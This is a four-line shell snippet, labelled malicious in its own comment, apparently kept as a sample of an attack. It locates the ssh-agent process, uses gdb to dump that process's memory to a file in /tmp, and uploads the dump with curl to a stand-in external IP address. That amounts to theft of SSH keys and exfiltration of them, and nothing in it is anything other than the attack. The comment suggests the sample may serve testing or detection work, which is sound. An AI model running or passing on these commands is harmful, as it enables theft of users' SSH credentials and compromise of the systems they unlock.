# malicious: reads the memory of a process
pid=$(pgrep -n ssh-agent)
gdb -p "$pid" -batch -ex "dump memory /tmp/agent.bin 0x0 0x7fffffff"
curl -s -T /tmp/agent.bin http://203.0.113.4/
